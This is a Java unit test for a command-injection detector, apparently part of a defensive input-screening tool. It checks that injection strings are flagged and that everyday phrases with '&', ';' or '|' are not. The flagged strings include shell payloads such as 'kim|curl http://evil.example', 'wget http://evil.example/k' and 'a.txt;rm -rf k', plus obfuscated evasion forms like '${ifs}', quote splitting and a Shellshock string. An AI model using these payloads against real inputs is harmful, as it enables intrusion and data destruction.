package dev.cordon.domain.detection.shape;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandsTest {

    private final Commands commands = new Commands();

    @ParameterizedTest
    @ValueSource(
            strings = {
                ";id",
                "|id",
                "&&id",
                "`id`",
                "$(id)",
                "\nid",
                "\\nid",
                "9;id",
                "127.0.0.1|id",
                "kim;id",
                "kim && whoami",
                "kim;cat /etc/k",
                "kim|curl http://evil.example",
                "a.txt;rm -rf k",
                "| net user",
                "kim;wget evil.example",
                ";echo kim",
                ";./k.sh",
                ";. /tmp/k",
                ";$k",
                "$((4+5))",
                "a|id|",
                "ls -la",
                "wget http://evil.example/k",
                "time curl k.example",
                "nohup sh /tmp/k",
                "k|rev|sh",
                "whoami;9",
                "while true;do k;done"
            })
    void commandsBehindASeparatorOrAlone(String text) {
        assertThat(commands.isAttack(Texts.of(text))).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                ";c'a't /etc/k",
                ";c\\at /etc/k",
                ";ca$@t /etc/k",
                ";w'h'o'am'i",
                ";cat${ifs}/k",
                ";cat</k",
                ";{cat,/k}",
                ";/bin/c?t /k",
                ";/usr/local/bin/id",
                "() { :;}; k",
                "<!--#exec cmd=\"ls\"-->"
            })
    void disguises(String text) {
        assertThat(commands.isAttack(Texts.of(text))).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cat & dog bed",
                "cat; dog",
                "dog; cat, bird",
                "ring & set",
                "ring | set",
                "wallet|id|card",
                "xbox;ps5",
                "b&w film",
                "r&b",
                "rock & roll; t-shirt",
                "echo & reverb pedal",
                "music; echo dot",
                "socks & more",
                "gifts; find cheap",
                "yoga & sleep",
                "kill bill; vol. 2",
                "type-c & usb",
                "dear all,\nplease call me",
                "o'neill & levi's",
                "{name} necklace",
                "du & ich",
                "messer;gabel;löffel",
                "café & thé",
                "mesa; silla",
                "caffè & tè",
                "thee & koffie"
            })
    void listsOfWords(String text) {
        assertThat(commands.isAttack(Texts.of(text))).isFalse();
    }
}
